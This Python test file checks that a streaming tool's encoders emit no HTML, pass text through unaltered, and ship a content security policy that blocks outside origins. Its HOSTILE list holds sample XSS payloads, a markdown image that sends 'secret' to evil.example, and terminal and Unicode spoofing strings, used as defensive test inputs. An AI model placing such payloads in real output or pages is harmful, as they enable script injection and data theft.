"""S15: events contain data, and no encoder writes HTML.

A front end is responsible for how it shows a model's text. `tests/browser` tests the page of `streamtools serve`, and
`tests/stream/test_texts.py` the sentences for readers.
"""

from __future__ import annotations

import html
import json
import re
from typing import Any

import pytest

from streamtools import outputs
from streamtools.apps.web.app import make_documents
from tests.security.test_s07_sse_injection import ENCODERS, attack
from tests.support.cases import cases
from tests.support.sample_runs import RUNS

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![a](https://evil.example/?q=secret)",
    "[a](javascript:alert(1))",
    "`*_~|#>-",
    "</details><iframe>",
    "\u202egnp.exe",
    "a\r\n\r\n# Heading\n```\n",
    "\x1b]8;;https://evil.example\x07link",
    "&lt;b&gt;",
]
_tag = re.compile(r"<[a-zA-Z/!]")


@pytest.mark.parametrize("make", [*(row.make for row in ENCODERS.values()), outputs.text], ids=[*ENCODERS, "text"])
def test_no_encoder_writes_html(make: Any) -> None:
    """No content type is HTML, and no run contains a tag that was not in its data."""
    encoder = make()
    assert encoder.content_type.partition(";")[0] in ("text/event-stream", "text/plain", "application/json")
    for events in RUNS.values():
        encoder = make()
        body = (b"".join(map(encoder.encode, events)) + encoder.close()).decode()
        assert not _tag.search(body)


def collect(value: Any, strings: list[str]) -> None:
    """Add all strings in a value to `strings`."""
    for each in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        collect(each, strings)
        strings += [each] if isinstance(each, str) else []


@pytest.mark.parametrize("make", [row.make for row in ENCODERS.values()], ids=list(ENCODERS))
def test_texts_are_written_unchanged(make: Any) -> None:
    """Nothing is escaped twice or dropped, so a front end that escapes shows the original text."""
    with cases() as case:
        for text in HOSTILE:
            with case(ascii(text)):
                for events in RUNS.values():
                    encoder = make()
                    body = b"".join(encoder.encode(attack(event, text)) for event in events).decode()
                    data = [line.removeprefix("data: ") for line in body.splitlines() if line.startswith("data: {")]
                    strings: list[str] = []
                    for each in data:
                        collect(json.loads(each), strings)
                    assert html.escape(text) == text or not [each for each in strings if html.escape(text) in each]


def test_the_page_allows_no_other_origin() -> None:
    """Its policy allows scripts by digest and connections to itself."""
    policy = dict(each.partition(" ")[::2] for each in make_documents().policy.split("; "))

    assert "'none'" == policy["default-src"] == policy["base-uri"] == policy["form-action"] == policy["frame-ancestors"]
    assert "unsafe" not in make_documents().policy
    assert not re.search(r"https?:|\*", make_documents().policy)
